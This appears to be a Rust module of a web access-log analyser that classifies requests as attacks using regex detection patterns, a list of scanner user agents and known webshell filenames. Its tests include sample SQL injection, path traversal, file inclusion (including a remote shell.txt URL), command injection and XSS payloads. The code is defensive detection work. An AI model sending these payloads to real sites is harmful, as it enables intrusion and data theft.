//! Attack classification of one request from what an access log keeps: method, target
//! (path and query), status and user agent. POST bodies are never logged, so this sees what
//! scalp and lorg see: URI-borne attacks, scanner fingerprints, and requests to webshells.
//!
//! Targets are percent-decoded (twice, as attackers double-encode) and lower-cased before
//! matching.

use std::sync::LazyLock;

use regex::{Regex, RegexSet};
use serde::Serialize;

use crate::access_log::HttpRequest;

/// A kind of attack request.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize)]
#[serde(rename_all = "kebab-case")]
pub enum AttackKind {
    /// SQL injection.
    Sqli,
    /// Path traversal.
    Traversal,
    /// Local file inclusion (`php://`, `/etc/passwd` through a parameter).
    Lfi,
    /// Remote file inclusion (a URL as a parameter value).
    Rfi,
    /// OS command injection.
    CommandInjection,
    /// Cross-site scripting.
    Xss,
    /// A known vulnerability scanner's user agent.
    Scanner,
    /// Probing for secrets and admin panels (`/.env`, `/.git/`, backups).
    Probe,
    /// A request to a webshell (known name, script in an upload folder, command parameter).
    WebshellAccess,
}

impl AttackKind {
    /// Stable name.
    pub fn as_str(self) -> &'static str {
        match self {
            AttackKind::Sqli => "sqli",
            AttackKind::Traversal => "traversal",
            AttackKind::Lfi => "lfi",
            AttackKind::Rfi => "rfi",
            AttackKind::CommandInjection => "command-injection",
            AttackKind::Xss => "xss",
            AttackKind::Scanner => "scanner",
            AttackKind::Probe => "probe",
            AttackKind::WebshellAccess => "webshell-access",
        }
    }
}

const TARGET_PATTERNS: &[(AttackKind, &str)] = &[
    (
        AttackKind::Sqli,
        r"union(\s|/\*.*?\*/)+(all(\s|/\*.*?\*/)+)?select",
    ),
    (
        AttackKind::Sqli,
        r#"['"`)]\s*(or|and)\s+['"(]?\w+['")]?\s*(=|like|>|<)"#,
    ),
    (AttackKind::Sqli, r"\b(sleep|benchmark|pg_sleep)\s*\(\s*\d"),
    (
        AttackKind::Sqli,
        r"information_schema|load_file\s*\(|into\s+(out|dump)file|waitfor\s+delay|extractvalue\s*\(|updatexml\s*\(|\bxp_cmdshell",
    ),
    (AttackKind::Sqli, r"'\s*(--|#|;)"),
    (
        AttackKind::Traversal,
        r"(\.\./|\.\.\\){2,}|/etc/(passwd|shadow|hosts)|(boot|win)\.ini|/windows/system32",
    ),
    (
        AttackKind::Lfi,
        r"(php|zip|phar|expect|data|glob)://|/proc/self/(environ|fd)",
    ),
    (
        AttackKind::Lfi,
        r"[?&](file|page|include|inc|path|template|doc|lang|view|cat|dir)=[^&]*(\.\./|/etc/|\.log|%00)",
    ),
    (
        AttackKind::Rfi,
        r"[?&][a-z0-9_\[\]]+=(https?|ftp)://[^&]*(\.(txt|php|jpg|gif)\??|\?)$",
    ),
    (
        AttackKind::CommandInjection,
        r"(;|\||&&|`|\$\()\s*(cat|ls|id|whoami|uname|wget|curl|nc|ncat|bash|sh|ping|nslookup|echo|powershell|certutil|busybox)\b",
    ),
    (
        AttackKind::CommandInjection,
        r"[?&](cmd|exec|command|execute|run|shell|c)=(id|whoami|ls|dir|pwd|uname|ipconfig|ifconfig|net(\s|%20)user|cat\s|type\s|echo\s|wget|curl)",
    ),
    (
        AttackKind::CommandInjection,
        r"/bin/(ba)?sh|cmd\.exe|\$\{jndi:|\$\{(::-j|lower:j)",
    ),
    (
        AttackKind::Xss,
        r"<script|javascript:|\bon(error|load|mouseover)\s*=|alert\s*\(|document\.cookie",
    ),
    (
        AttackKind::Probe,
        r"/\.(env|git/|svn/|htpasswd|aws/|ds_store|ssh/)|\.(bak|old|orig|save|swp|sql|tar\.gz|zip)(\?|$)|/(phpmyadmin|pma|myadmin|adminer)\b|/server-status|/wp-config\.php[^/]|/(manager/html|jmx-console|actuator/|solr/admin)",
    ),
    (
        AttackKind::WebshellAccess,
        r"/(c99|r57|wso|b374k|alfa|indoxploit|webshell|sh3ll|priv8|leafmailer|chopper|godzilla|behinder|filesman|p0wny)[^/]*\.(php\d?|phtml|jsp|jspx|aspx?|ashx)(\?|$)",
    ),
    (
        AttackKind::WebshellAccess,
        r"/(wp-content/)?uploads?/.*\.(php\d?|phtml|phar|jsp|aspx?)(\?|$)",
    ),
    (
        AttackKind::WebshellAccess,
        r"\.(jpe?g|png|gif|ico|bmp|txt)\.(php\d?|phtml|aspx?|jsp)(\?|$)",
    ),
];

const SCANNER_AGENTS: &str = r"(?i)sqlmap|nikto|nmap|masscan|zgrab|nuclei|wpscan|acunetix|netsparker|dirbuster|gobuster|ffuf|feroxbuster|w3af|openvas|nessus|havij|jaeles|whatweb|wfuzz|commix|joomscan|arachni|skipfish|zmeu|morfeus";

/// Substrings at least one of which every match of every target pattern contains (checked
/// pattern by pattern; the test `prefilter_covers_every_pattern` keeps it honest). Most
/// requests contain none, and then the `RegexSet` is not run at all: one Aho-Corasick pass
/// instead of the set's slower search.
const TARGET_TRIGGERS: &[&str] = &[
    // SQLi
    "union",
    "'",
    "\"",
    "`",
    ")",
    "sleep",
    "benchmark",
    "information_schema",
    "load_file",
    "into",
    "waitfor",
    "extractvalue",
    "updatexml",
    "xp_cmdshell",
    // traversal, LFI, RFI
    "..",
    "/etc/",
    ".ini",
    "/windows/system32",
    "://",
    "/proc/self/",
    ".log",
    "%00",
    // command injection
    ";",
    "|",
    "&&",
    "$(",
    "cmd=",
    "c=",
    "command=",
    "execute=",
    "run=",
    "shell=",
    "/bin/",
    "cmd.exe",
    "${",
    // XSS
    "<script",
    "javascript:",
    "onerror",
    "onload",
    "onmouseover",
    "alert",
    "document.cookie",
    // probes
    "/.",
    ".bak",
    ".old",
    ".orig",
    ".save",
    ".swp",
    ".sql",
    ".tar.gz",
    ".zip",
    "/phpmyadmin",
    "/pma",
    "/myadmin",
    "/adminer",
    "/server-status",
    "/wp-config.php",
    "/manager/html",
    "/jmx-console",
    "/actuator/",
    "/solr/admin",
    // webshell access
    "c99",
    "r57",
    "wso",
    "b374k",
    "alfa",
    "indoxploit",
    "webshell",
    "sh3ll",
    "priv8",
    "leafmailer",
    "chopper",
    "godzilla",
    "behinder",
    "filesman",
    "p0wny",
    "upload",
    ".jpg.",
    ".jpeg.",
    ".png.",
    ".gif.",
    ".ico.",
    ".bmp.",
    ".txt.",
];

struct Patterns {
    set: RegexSet,
    kinds: Vec<AttackKind>,
    scanners: Regex,
    triggers: aho_corasick::AhoCorasick,
    /// `SCANNER_AGENTS`' names, ASCII case-insensitive: decides for ASCII user agents (the
    /// regex's Unicode case folding only differs on non-ASCII text, which goes to the regex).
    scanner_names: aho_corasick::AhoCorasick,
}

static PATTERNS: LazyLock<Option<Patterns>> = LazyLock::new(|| {
    Some(Patterns {
        set: RegexSet::new(TARGET_PATTERNS.iter().map(|(_, p)| *p)).ok()?,
        kinds: TARGET_PATTERNS.iter().map(|(k, _)| *k).collect(),
        scanners: Regex::new(SCANNER_AGENTS).ok()?,
        // DFAs: one table lookup per byte (the default picks an NFA for this many patterns).
        triggers: aho_corasick::AhoCorasick::builder()
            .kind(Some(aho_corasick::AhoCorasickKind::DFA))
            .build(TARGET_TRIGGERS)
            .ok()?,
        scanner_names: aho_corasick::AhoCorasick::builder()
            .kind(Some(aho_corasick::AhoCorasickKind::DFA))
            .ascii_case_insensitive(true)
            .build(SCANNER_AGENTS.trim_start_matches("(?i)").split('|'))
            .ok()?,
    })
});

fn hex(b: u8) -> Option<u8> {
    match b {
        b'0'..=b'9' => Some(b - b'0'),
        b'a'..=b'f' => Some(b - b'a' + 10),
        b'A'..=b'F' => Some(b - b'A' + 10),
        _ => None,
    }
}

/// Percent-decodes (and `+` → space); invalid escapes stay as they are.
pub(crate) fn percent_decode(s: &str) -> String {
    let b = s.as_bytes();
    let mut out = Vec::with_capacity(b.len());
    let mut i = 0;
    while i < b.len() {
        match b[i] {
            b'%' if i + 2 < b.len() => match (hex(b[i + 1]), hex(b[i + 2])) {
                (Some(h), Some(l)) => {
                    out.push(h * 16 + l);
                    i += 3;
                    continue;
                }
                _ => out.push(b'%'),
            },
            b'+' => out.push(b' '),
            c => out.push(c),
        }
        i += 1;
    }
    String::from_utf8_lossy(&out).into_owned()
}

/// The normalised target matched against the patterns, written into `raw` (a buffer the
/// caller reuses: this runs for every log line).
fn normalise_parts_into(path: &str, query: &str, raw: &mut String) {
    raw.clear();
    raw.push_str(path);
    if !query.is_empty() {
        raw.push('?');
        raw.push_str(query);
    }
    // Most requests carry no escapes: skip the decoding passes for them.
    if raw.contains(['%', '+']) {
        *raw = percent_decode(raw);
        if raw.contains('%') {
            *raw = percent_decode(raw);
        }
    }
    if raw.is_ascii() {
        // Same as `to_lowercase` on ASCII, in place.
        raw.make_ascii_lowercase();
    } else {
        *raw = raw.to_lowercase();
    }
}

/// The attack kinds a request shows (sorted, unique).
pub fn classify(req: &HttpRequest) -> Vec<AttackKind> {
    classify_parts(&req.path, &req.query, &req.user_agent).to_vec()
}

/// A set of attack kinds, one bit per kind in [`AttackKind`] order.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub(crate) struct KindSet(u16);

pub(crate) const ALL_KINDS: [AttackKind; 9] = [
    AttackKind::Sqli,
    AttackKind::Traversal,
    AttackKind::Lfi,
    AttackKind::Rfi,
    AttackKind::CommandInjection,
    AttackKind::Xss,
    AttackKind::Scanner,
    AttackKind::Probe,
    AttackKind::WebshellAccess,
];

impl KindSet {
    fn insert(&mut self, k: AttackKind) {
        self.0 |= 1 << (k as u16);
    }

    /// Whether no kind is set.
    pub(crate) fn is_empty(self) -> bool {
        self.0 == 0
    }

    /// Whether `k` is set.
    pub(crate) fn contains(self, k: AttackKind) -> bool {
        self.0 & (1 << (k as u16)) != 0
    }

    /// The kinds, sorted.
    pub(crate) fn iter(self) -> impl Iterator<Item = AttackKind> {
        ALL_KINDS.into_iter().filter(move |k| self.contains(*k))
    }

    /// The kinds as a sorted vector.
    pub(crate) fn to_vec(self) -> Vec<AttackKind> {
        self.iter().collect()
    }
}

/// [`classify`] on the parts of a request, without building one.
pub(crate) fn classify_parts(path: &str, query: &str, user_agent: &str) -> KindSet {
    let mut kinds = classify_target(path, query);
    if is_scanner(user_agent) {
        kinds.insert(AttackKind::Scanner);
    }
    kinds
}

/// The kinds the target (path and query) shows; [`AttackKind::Scanner`] is never set here.
pub(crate) fn classify_target(path: &str, query: &str) -> KindSet {
    classify_target_in(path, query, &mut String::new())
}

/// [`classify_target`] with a scratch buffer for the normalised target.
pub(crate) fn classify_target_in(path: &str, query: &str, target: &mut String) -> KindSet {
    let mut kinds = KindSet::default();
    let Some(p) = PATTERNS.as_ref() else {
        return kinds;
    };
    normalise_parts_into(path, query, target);
    let target = target.as_str();
    if p.triggers.is_match(target) {
        for i in p.set.matches(target).iter() {
            kinds.insert(p.kinds[i]);
        }
    }
    kinds
}

/// Whether a user agent names a known vulnerability scanner.
pub(crate) fn is_scanner(user_agent: &str) -> bool {
    let Some(p) = PATTERNS.as_ref() else {
        return false;
    };
    if user_agent.is_empty() {
        false
    } else if user_agent.is_ascii() {
        p.scanner_names.is_match(user_agent)
    } else {
        p.scanners.is_match(user_agent)
    }
}

impl KindSet {
    /// Adds [`AttackKind::Scanner`] when `yes`.
    pub(crate) fn with_scanner(mut self, yes: bool) -> KindSet {
        if yes {
            self.insert(AttackKind::Scanner);
        }
        self
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn req(target: &str, ua: &str) -> HttpRequest {
        let (path, query) = target.split_once('?').unwrap_or((target, ""));
        HttpRequest {
            ts: chrono::DateTime::default(),
            client: "198.51.100.9".into(),
            method: "GET".into(),
            path: path.into(),
            query: query.into(),
            status: 200,
            bytes: 0,
            referer: String::new(),
            user_agent: ua.into(),
        }
    }

    /// Every pattern's matches contain a trigger: checked on each positive case and on a
    /// few shortest matches per pattern written by hand.
    #[test]
    fn scanner_names_agree_with_the_regex() {
        let p = PATTERNS.as_ref().unwrap();
        for ua in [
            "sqlmap/1.7",
            "Mozilla/5.0 (compatible; Nmap Scripting Engine)",
            "NUCLEI",
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64)",
            "curl/8.0",
            "",
            "python-requests/2.31 ZmEu",
        ] {
            assert_eq!(
                p.scanner_names.is_match(ua),
                p.scanners.is_match(ua),
                "{ua}"
            );
        }
    }

    #[test]
    fn prefilter_covers_every_pattern() {
        let p = PATTERNS.as_ref().unwrap();
        let shortest = [
            "union select",
            "' or 1=1",
            ") and 1 like",
            "sleep(1",
            "benchmark(1",
            "information_schema",
            "load_file(",
            "into outfile",
            "waitfor delay",
            "extractvalue(",
            "updatexml(",
            "xp_cmdshell",
            "';",
            "../../",
            "..\\..\\",
            "/etc/passwd",
            "boot.ini",
            "/windows/system32",
            "php://",
            "/proc/self/fd",
            "?file=x.log",
            "?page=%00",
            "?a=http://h/x.txt",
            "?a=ftp://h/?",
            ";id",
            "|ls",
            "&&whoami",
            "`id",
            "$(id",
            "?c=id",
            "?cmd=ls",
            "?exec=pwd",
            "?command=dir",
            "?execute=uname",
            "?run=ipconfig",
            "?shell=echo ",
            "/bin/sh",
            "cmd.exe",
            "${jndi:",
            "${::-j",
            "<script",
            "javascript:",
            "onerror=",
            "onload =",
            "onmouseover=",
            "alert(",
            "document.cookie",
            "/.env",
            "/.git/",
            "/.svn/",
            "/.htpasswd",
            "/.aws/",
            "/.ds_store",
            "/.ssh/",
            "/a.bak",
            "/a.old?",
            "/a.orig",
            "/a.save",
            "/a.swp",
            "/a.sql",
            "/a.tar.gz",
            "/a.zip",
            "/phpmyadmin",
            "/pma",
            "/myadmin",
            "/adminer",
            "/server-status",
            "/wp-config.phpx",
            "/manager/html",
            "/jmx-console",
            "/actuator/",
            "/solr/admin",
            "/c99.php",
            "/r57.php",
            "/wso.php",
            "/b374k.php",
            "/alfa.php",
            "/indoxploit.php",
            "/webshell.jsp",
            "/sh3ll.php",
            "/priv8.php",
            "/leafmailer.php",
            "/chopper.aspx",
            "/godzilla.jsp",
            "/behinder.jsp",
            "/filesman.php",
            "/p0wny.php",
            "/upload/a.php",
            "/uploads/x/a.phtml",
            "/a.jpg.php",
            "/a.jpeg.php",
            "/a.png.php",
            "/a.gif.php",
            "/a.ico.php",
            "/a.bmp.php",
            "/a.txt.php",
        ];
        let mut covered = vec![false; TARGET_PATTERNS.len()];
        for t in shortest {
            let m: Vec<usize> = p.set.matches(t).iter().collect();
            assert!(!m.is_empty(), "no pattern matches {t}");
            assert!(p.triggers.is_match(t), "no trigger in {t}");
            for i in m {
                covered[i] = true;
            }
        }
        assert!(covered.iter().all(|c| *c), "{covered:?}");
    }

    #[test]
    fn positives_and_negatives() {
        use AttackKind::*;
        let cases: &[(&str, &str, &[AttackKind])] = &[
            (
                "/item.php?id=1%27%20UNION%20SELECT%201,2,user()--",
                "",
                &[Sqli],
            ),
            ("/item.php?id=1'+or+'1'='1", "", &[Sqli]),
            (
                "/index.php?page=../../../../etc/passwd",
                "",
                &[Traversal, Lfi],
            ),
            (
                "/index.php?page=php://filter/convert.base64-encode/resource=wp-config",
                "",
                &[Lfi],
            ),
            ("/index.php?inc=http://203.0.113.5/shell.txt?", "", &[Rfi]),
            (
                "/ping.php?host=127.0.0.1;cat%20/etc/passwd",
                "",
                &[Traversal, CommandInjection],
            ),
            (
                "/search?q=%253Cscript%253Ealert(1)%253C/script%253E",
                "",
                &[Xss],
            ),
            ("/", "sqlmap/1.7.2#stable (https://sqlmap.org)", &[Scanner]),
            ("/.env", "", &[Probe]),
            (
                "/wp-content/uploads/2026/01/cache.php",
                "",
                &[WebshellAccess],
            ),
            (
                "/images/logo.jpg.php?cmd=id",
                "",
                &[CommandInjection, WebshellAccess],
            ),
            // Benign.
            (
                "/wp-content/themes/twentytwenty/style.css?ver=2.1",
                "Mozilla/5.0",
                &[],
            ),
            ("/products/?category=shoes&sort=price", "Mozilla/5.0", &[]),
            ("/search?q=rock+and+roll+union+station", "Mozilla/5.0", &[]),
            ("/blog/2026/01/select-the-best-option/", "Mozilla/5.0", &[]),
            (
                "/wp-admin/admin-ajax.php?action=heartbeat",
                "Mozilla/5.0",
                &[],
            ),
        ];
        for (t, ua, want) in cases {
            assert_eq!(classify(&req(t, ua)), *want, "{t}");
        }
    }
}
